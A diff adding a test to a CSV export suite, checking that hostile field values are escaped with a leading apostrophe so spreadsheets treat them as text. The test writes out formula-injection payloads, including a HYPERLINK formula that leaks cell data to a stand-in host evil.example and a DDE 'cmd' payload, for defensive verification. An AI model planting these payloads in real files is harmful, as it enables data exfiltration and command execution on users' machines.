@@ -130,4 +130,22 @@ describe('CSV import and export', () => {
     expect(await mine.text()).toContain('Secret Orchard');
     expect((await fetch(`${t.baseUrl}/api/networks/export.csv?kinds=PLANET`)).status).toBe(400);
   });
+
+  it('writes hostile names and words as text, never as formulas a spreadsheet would run', async () => {
+    await t.newNetwork(faith, {
+      name: '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
+      purpose: "+cmd|' /C calc'!A0",
+      values: '@SUM(1+1)*cmd|',
+      themes: ['hostile'],
+    });
+    await t.newNetwork(faith, { name: '-2+3+cmd|x', purpose: '\t=1+2', values: '\r=1+2', themes: ['hostile'] });
+    const response = await fetch(`${t.baseUrl}/api/networks/export.csv?themes=hostile`);
+    const rows = parse(await response.text(), { bom: true, columns: true }) as Record<string, string>[];
+    const cells = rows.map((r) => [r.name, r['purpose (the work)'], r['values (the soul)']]);
+    expect(cells.sort((a, b) => a[0].localeCompare(b[0]))).toEqual([
+      ["'-2+3+cmd|x", "'\t=1+2", "'\r=1+2"],
+      [`'=HYPERLINK("https://evil.example/?leak="&A2,"Click me")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|"],
+    ]);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
